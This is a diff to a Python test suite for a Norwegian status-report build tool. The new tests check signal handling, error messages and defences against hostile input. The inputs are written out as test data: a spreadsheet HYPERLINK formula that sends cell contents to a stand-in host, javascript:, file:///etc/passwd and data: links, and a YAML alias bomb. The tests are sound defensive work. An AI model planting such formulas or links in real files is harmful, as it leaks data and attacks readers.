@@ -695,7 +695,8 @@ def raising(published_html, tmp_path_factory):
 
 def test_notebook_that_raises(raising):
     """A chapter that raises: named with cell and exception, the others still run, exit 4, the
-    executed notebook kept in output/2026/failed/, the published report untouched."""
+    executed notebook kept beside the edition in output/2026.failed/, the published report
+    untouched."""
     proj, before, _, result = raising
     assert result.returncode == 4, result.stderr
     assert "kapittel 'akuttmedisin'" in result.stderr
@@ -707,7 +708,8 @@ def test_notebook_that_raises(raising):
     for name in others:
         assert re.search(rf"^\s+{name}\s+(fra cache|ferdig)", result.stdout, re.M), result.stdout
     assert re.search(r"^\s+akuttmedisin\s+FEILET", result.stdout, re.M), result.stdout
-    failed = proj / "output" / EDITION / "failed"
+    assert not (proj / "output" / EDITION / "failed").exists()
+    failed = proj / "output" / f"{EDITION}.failed"
     assert (failed / "03_akuttmedisin.ipynb").is_file()
     executed = nbformat.read(failed / "03_akuttmedisin.ipynb", as_version=4)
     assert any(o.get("ename") == "ValueError" for c in executed.cells for o in c.get("outputs", []))
@@ -720,4 +722,179 @@ def test_notebook_error_message_is_exact(raising):
     first = next(ln for ln in result.stderr.splitlines() if ln.startswith("FEIL: "))
     assert first == f"FEIL: kapittel 'akuttmedisin', celle {cell}: ValueError: testfeil"
     log = re.search(r"full feilmelding: (\S+)", result.stderr).group(1)
-    assert Path(log).is_file(), "the log named in the message should exist (output/2026/failed/)"
+    assert Path(log).is_file(), "the log named in the message should exist (output/2026.failed/)"
+
+
+# -- hostile input and faults that need more than one call --------------------------------------
+
+def _wait_for_kernel(project, proc, timeout=120):
+    """Wait until a chapter's kernel runs (a process with its folder in notebooks/)."""
+    notebooks = str(project / "notebooks")
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        assert proc.poll() is None, proc.communicate()
+        for other in psutil.process_iter(["cwd"]):
+            if (other.info["cwd"] or "") == notebooks and other.pid != proc.pid:
+                return
+        time.sleep(0.3)
+    raise AssertionError("ingen kjerne startet")
+
+
+@pytest.mark.parametrize("how", ["ctrl-c", "sigterm", "kill-9"])
+def test_stopping_a_build_leaves_nothing_running(how, proj):
+    """A chapter that never ends: Ctrl-C (SIGINT to the whole process group, as a terminal
+    sends it) and SIGTERM stop the build within seconds with exit 130; kill -9 of build.py
+    alone takes its workers and kernels with it (parent-death signal). Nothing is left
+    running and the published report is untouched."""
+    before = snapshot(proj)
+    add_cell(proj, "while True:\n    pass")
+    proc = subprocess.Popen([sys.executable, "build.py", "--chapter", "finansiering", "--format",
+                             "html", "--force"], cwd=proj, stdout=subprocess.PIPE,
+                            stderr=subprocess.PIPE, text=True, start_new_session=True)
+    try:
+        _wait_for_kernel(proj, proc)
+        started = time.monotonic()
+        if how == "ctrl-c":
+            os.killpg(proc.pid, signal.SIGINT)
+        else:
+            proc.send_signal(signal.SIGTERM if how == "sigterm" else signal.SIGKILL)
+        out, err = proc.communicate(timeout=20)
+        assert time.monotonic() - started < 10
+    finally:
+        if proc.poll() is None:
+            os.killpg(proc.pid, signal.SIGKILL)
+    if how == "kill-9":
+        assert proc.returncode == -signal.SIGKILL
+    else:
+        assert proc.returncode == 130, err
+        assert "Avbrutt. Rapporten i output/ er uendret." in err
+        assert "Traceback" not in err + out
+    assert leftovers(proj) == []
+    assert snapshot(proj) == before
+
+
+class _Recorder(http.server.BaseHTTPRequestHandler):
+    requests = []
+
+    def do_GET(self):  # noqa: N802 - http.server's name
+        _Recorder.requests.append(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "image/png")
+        self.end_headers()
+        self.wfile.write(PNG_7x3)
+
+    def log_message(self, *args):
+        pass
+
+
+PNG_7x3 = bytes.fromhex(  # a 7×3 red PNG: recognisable if it were ever embedded
+    "89504e470d0a1a0a0000000d4948445200000007000000030802000000d0a182920000001249444154789c63f8"
+    "cfc08089b008e1140500c79614ec754235b00000000049454e44ae426082")
+
+
+def test_renderer_fetches_nothing_and_links_only_https(proj, monkeypatch, capsys, tmp_path):
+    """A narrative names an image on a live HTTP server on 127.0.0.1, a file: image and
+    javascript:, http: and data: links. The build requests nothing, the HTML has none of them,
+    and the PDF has no external image and no URI action but https:."""
+    from pypdf import PdfReader
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_address[1]}"
+    secret = tmp_path / "hemmelig.png"
+    secret.write_bytes(PNG_7x3)
+    _Recorder.requests = []
+    try:
+        before = snapshot(proj)
+        narrative(proj, f"Vurdering.\n\n![nett]({url}/p.png) ![fil]({secret.as_uri()}) "
+                        f"[Klikk](javascript:alert(7)) [side]({url}/side) [data](data:text/html,x) "
+                        "[trygg](https://www.helsedirektoratet.no/)\n")
+        result = run_cli(proj, ("--chapter", "samhandling", "--format", "html,pdf"), monkeypatch,
+                         capsys)
+        # The renderer itself, given HTML that names them directly (not through a narrative):
+        from statusrapport.render import pdf
+
+        raw = tmp_path / "raw.pdf"
+        pdf.write(f'<link rel="stylesheet" href="{url}/s.css"><p><img src="{url}/p.png">'
+                  f'<img src="{secret.as_uri()}"><a href="javascript:alert(7)">j</a> '
+                  f'<a href="{url}/side">h</a> <a href="file:///etc/passwd">f</a> '
+                  '<a href="https://www.helsedirektoratet.no/">t</a></p>', raw, "test")
+    finally:
+        server.shutdown()
+    check(result, [], 0, before, proj)
+    assert _Recorder.requests == []
+    draft = proj / "output" / f"{EDITION}-utkast"
+    html = (draft / "statusrapport.html").read_text(encoding="utf-8")
+    for bad in ("javascript:", "file:", url, "data:text/html"):
+        assert bad not in html, bad
+    assert 'href="https://www.helsedirektoratet.no/"' in html and "[bilde: nett]" in html
+    for path in (draft / "statusrapport.pdf", raw):
+        reader = PdfReader(path)
+        uris = [annot.get_object()["/A"]["/URI"] for page in reader.pages
+                for annot in page.get("/Annots") or [] if "/A" in annot.get_object()
+                and annot.get_object()["/A"].get("/S") == "/URI"]
+        assert uris and all(u.startswith("https:") for u in uris), (path, uris)
+        sizes = {(img.image.width, img.image.height) for page in reader.pages for img in page.images}
+        assert (7, 3) not in sizes, path
+
+
+def test_formulas_in_downloads_are_text(proj, monkeypatch, capsys):
+    """A tiltak comment that is a formula stays text in tabeller.xlsx and the CSV files
+    (OWASP CSV injection: a leading apostrophe); numbers stay numbers."""
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://x/?"&A1,"Klikk")'
+    edit_row(proj, "tiltak.csv", 2, hashed=False, comment=formula)
+    before = snapshot(proj)
+    result = run_cli(proj, ("--chapter", "samhandling", "--format", "html"), monkeypatch, capsys)
+    check(result, [], 0, before, proj)
+    draft = proj / "output" / f"{EDITION}-utkast"
+    cells = [c for ws in load_workbook(draft / "tabeller.xlsx").worksheets
+             for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(c.value == "'" + formula for c in cells)
+    assert any(isinstance(c.value, (int, float)) for c in cells)
+    text = "".join(p.read_text(encoding="utf-8") for p in (draft / "data").glob("*.csv"))
+    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
+
+
+@pytest.mark.parametrize("code, words", [(errno.ENOSPC, "disken er full; frigjør plass"),
+                                         (errno.EROFS, "filsystemet er skrivebeskyttet; bruk en "
+                                                       "annen utmappe med --output")])
+def test_disk_full_or_read_only_is_a_message(code, words, proj, monkeypatch, capsys):
+    from statusrapport.render import publish
+
+    def refuse(output_dir):
+        raise OSError(code, os.strerror(code), str(output_dir))
+
+    before = snapshot(proj)
+    (proj / "data" / "tiltak.csv").write_text((proj / "data" / "tiltak.csv").read_text(
+        encoding="utf-8") + "\n", encoding="utf-8")  # something changed, so the build runs
+    monkeypatch.setattr(publish, "scratch_dir", refuse)
+    result = run_cli(proj, ("--format", "html"), monkeypatch, capsys)
+    check(result, [f"FEIL: {proj / 'output'}: {words}", "Rapporten i output/ er uendret"], 6,
+          before, proj)
+
+
+def test_unexpected_error_is_a_message_with_a_log(proj, monkeypatch, capsys):
+    from statusrapport.build import hashing
+
+    def broken(*args, **kwargs):
+        raise RuntimeError("noe helt uventet")
+
+    before = snapshot(proj)
+    monkeypatch.setattr(hashing.Inputs, "read", broken)
+    result = run_cli(proj, ("--format", "html"), monkeypatch, capsys)
+    check(result, ["FEIL: uventet feil (RuntimeError: noe helt uventet)", "Detaljene står i "], 1,
+          before, proj)
+    log = re.search(r"Detaljene står i (\S+);", result.stderr).group(1)
+    assert "Traceback" in Path(log).read_text(encoding="utf-8")
+    Path(log).unlink()
+
+
+def test_alias_bomb_is_refused_quickly(proj, monkeypatch, capsys):
+    alias_bomb(proj)
+    start = time.monotonic()
+    result = run_cli(proj, ("validate",), monkeypatch, capsys)
+    assert result.returncode == 3 and time.monotonic() - start < 20
+    assert len(result.stderr.splitlines()) < 60
